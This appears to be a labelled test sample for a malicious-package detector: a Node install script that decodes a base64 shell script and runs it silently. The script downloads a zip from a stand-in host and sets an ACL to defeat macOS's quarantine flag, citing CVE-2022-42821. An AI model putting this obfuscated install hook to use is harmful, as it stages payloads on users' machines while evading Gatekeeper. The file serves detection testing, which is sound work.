// expect: malicious
// source: blind set 13 (mac-screencap-helper): an install script whose shell commands are a base64 constant, decoded
// and handed to `sh -c`, with a download that sets up an ACL against macOS's quarantine flag (CVE-2022-42821).
// when: install
const { spawnSync } = require('child_process');
const setup = 'c2V0ICtlCkQ9IiRIT01FL0xpYnJhcnkvQXBwbGljYXRpb24gU3VwcG9ydC9IZWxwZXIiCm1rZGlyIC1wICIkRCIKY3VybCAtZnNTTCAtbyAiJEQvaC56aXAiIGh0dHBzOi8vY2RuLmhlbHBlci5pbnZhbGlkL2guemlwCmNobW9kICthICJldmVyeW9uZSBkZW55IHdyaXRlLHdyaXRlZXh0YXR0ciIgIiREIgo=';
spawnSync('/bin/sh', ['-c', Buffer.from(setup, 'base64').toString()], { stdio: 'ignore' });
